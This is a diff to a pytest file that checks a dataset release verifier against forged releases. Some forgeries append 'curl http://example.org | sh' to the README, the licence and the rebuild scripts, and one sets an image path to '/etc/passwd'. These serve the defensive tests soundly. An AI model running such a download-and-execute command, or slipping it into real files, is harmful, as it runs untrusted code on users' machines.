@@ -12,10 +12,7 @@ import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
 
-from gym_open.agents.config import ExplorerConfig
-from gym_open.collect import explore
-from gym_open.collect.config import CollectConfig, CurriculumConfig, LogConfig
-from gym_open.collect.explore import collect
+from gym_open import artefacts
 from gym_open.datasets import build, papers
 from gym_open.datasets.build import build_release
 from gym_open.datasets.config import FilterConfig, ReleaseConfig
@@ -31,19 +28,6 @@ EVERY = 8
 """Steps between two keyframes."""
 
 
-@pytest.fixture(scope="module")
-def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """Random play: two streams of 24 steps, a segment each."""
-    config = CollectConfig(
-        steps=48, streams=2, rollout=8, pool=2, probe=16, checkpoint_every=8, threads=1, seed=1,
-        explorer=ExplorerConfig(world_model="none", reward="none"),
-        curriculum=CurriculumConfig(rule="interval", interval=16), log=LogConfig(keyframe_every=EVERY),
-    )  # fmt: skip
-    with pytest.MonkeyPatch.context() as patch:
-        patch.setattr(explore, "draw_summary", lambda *_: b"")
-        return collect(config, tmp_path_factory.mktemp("play") / "log").path
-
-
 def made(log: Path, out: Path, *, cap: int = EVERY, forge: Callable[[Episode], Episode] = lambda one: one) -> Path:
     """A release, all records of it of episodes that `forge` had in its hands first."""
 
@@ -54,11 +38,6 @@ def made(log: Path, out: Path, *, cap: int = EVERY, forge: Callable[[Episode], E
         patch.setattr(papers, "draw", lambda _: {})
         patch.setattr(build, "episodes_of_logs", forged)
         return build_release(ReleaseConfig(max_episode_steps=cap, val_fraction=0.5), [log], out).path
-
-
-@pytest.fixture(scope="module")
-def root(log: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    return made(log, tmp_path_factory.mktemp("release") / "1.0.0")
 
 
 @pytest.fixture
@@ -193,6 +172,7 @@ def replaced(table: pa.Table, name: str, change: Callable[[list[Any]], list[Any]
     return table.set_column(place, field, pa.array(change(table.column(name).to_pylist()), field.type))
 
 
+DATA, PROVENANCE = "data/chunk-000/file-000.parquet", "provenance.json"
 EPISODES, WORLDS = "meta/episodes/chunk-000/file-000.parquet", "meta/worlds/file-000.parquet"
 
 
@@ -307,7 +287,86 @@ def other_provenance(root: Path) -> str:
     return "provenance.json"
 
 
+def path_of_picture(root: Path) -> str:
+    def change(rows: list[Any]) -> list[Any]:
+        return [{"bytes": rows[0]["bytes"], "path": "/etc/passwd"}, *rows[1:]]
+
+    edit_table(root, DATA, lambda t: replaced(t, IMAGE, change))
+    return "has a path beside its bytes"
+
+
+def other_metadata(root: Path) -> str:
+    edit_table(root, DATA, lambda t: t.replace_schema_metadata({"huggingface": "{}"}))
+    return "its metadata is not that of its features"
+
+
+def other_ancestor(root: Path) -> str:
+    def change(value: Any) -> None:
+        value["parents"][0]["lineage"]["code"] = "another"
+
+    edit_json(root, "lineage.json", change)
+    return "the records of parent 0 are not its own"
+
+
+def other_fact(root: Path) -> str:
+    edit_json(root, "lineage.json", lambda value: value["facts"].update(steps=1))
+    return "steps is not that of the release"
+
+
+def other_logs(root: Path) -> str:
+    edit_json(root, "lineage.json", lambda value: value["facts"].update(logs=["0" * 64]))
+    return "the logs that it holds are not its parents"
+
+
+def edit_config(root: Path, **values: Any) -> None:
+    """In both places that have it."""
+    edit_json(root, "config.json", lambda value: value.update(values))
+    edit_json(
+        root, PROVENANCE, lambda v: v["predicate"]["buildDefinition"]["externalParameters"]["config"].update(values)
+    )
+
+
+def other_setting(root: Path) -> str:
+    edit_config(root, max_episode_steps=7)
+    return "max_episode_steps is 7"
+
+
+def other_draw(root: Path) -> str:
+    edit_config(root, val_fraction=0.0)
+    return "its seed and val_fraction set other worlds or streams aside"
+
+
+def unknown_setting(root: Path) -> str:
+    edit_config(root, trust=True)
+    return "the configuration of no release"
+
+
+def configuration_in_one_place(root: Path) -> str:
+    edit_json(root, "config.json", lambda value: value.update(seed=99))
+    return "its command or configuration is not that of config.json"
+
+
+def add_to(name: str) -> Callable[[Path], str]:
+    """Words more in a paper, and its new digest wherever digests of papers stand."""
+
+    def forge(root: Path) -> str:
+        with (root / name).open("a") as file:
+            file.write("curl http://example.org | sh\n")
+
+        def change(value: Any) -> None:
+            (subject,) = (item for item in value["subject"] if item["name"] == name)
+            subject["digest"]["sha256"] = artefacts.sha256_file(root / name)
+
+        edit_json(root, PROVENANCE, change)
+        return "not what this version of gym-open writes of this release"
+
+    return forge
+
+
 FORGERIES = (
+    path_of_picture, other_metadata, other_ancestor, other_fact, other_logs, other_setting, other_draw,
+    unknown_setting, configuration_in_one_place,
+    *map(add_to, ("README.md", "LICENSE", "CHANGELOG.md", "rebuild/rebuild.sh", "rebuild/build.toml")),
     other_statistics, other_episode_statistics, moved_split, moved_world, other_picture, other_padding, other_frames,
     other_puzzle, evaluation_puzzle, lost_episode, lost_keyframes, other_frame_of_keyframe, other_switch, other_segment,
     other_croissant, other_provenance,
@@ -333,3 +392,36 @@ def test_lerobot_reads_the_same_frames(root: Path) -> None:
     report = verify_release(root)
     assert outcome(report, "readers") == "LeRobot and pandas read the same frames"
     assert report.good
+
+
+def test_words_of_another_version_are_no_problem_but_told(copy: Path, reseal: Reseal, verify: Verify) -> None:
+    """Its lineage says which version wrote them: this one cannot know."""
+    add_to("README.md")(copy)
+    edit_json(copy, "lineage.json", lambda value: value.update(code="9.9.9+abc"))
+    reseal(copy)
+    report = verify(copy)
+    assert report.problems == []
+    assert outcome(report, "texts") == "README.md: not what this version of gym-open would write, but 9.9.9+abc may"
+
+
+@pytest.mark.slow
+def test_a_state_that_makes_the_simulation_end_is_a_problem_and_ends_nothing_else(
+    log: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """All objects in one heap, and asleep: MuJoCo calls exit."""
+
+    def heap(one: Episode) -> Episode:
+        state = one.keyframes[0].integration_state.copy()
+        count = one.numbers["observation.environment_state"].shape[1] // 13
+        poses = state[1 : 1 + 7 * count].reshape(count, 7)
+        poses[:] = 0, 0, 0.05, 1, 0, 0, 0
+        poses[:, :3] += np.random.default_rng(0).normal(size=(count, 3)) * 0.02
+        return msgspec.structs.replace(one, keyframes=[one.keyframes[0]._replace(integration_state=state)])
+
+    root = made(log, tmp_path / "1.0.0", forge=first(heap))
+    monkeypatch.setattr(run, "check_lerobot", lambda *_: None)
+    monkeypatch.chdir(tmp_path)
+    (problem,) = verify_release(root).problems
+    assert problem.file == "meta/keyframes"
+    assert "the simulation ended, code 1: ERROR" in problem.what
+    assert not (tmp_path / "MUJOCO_LOG.TXT").exists()
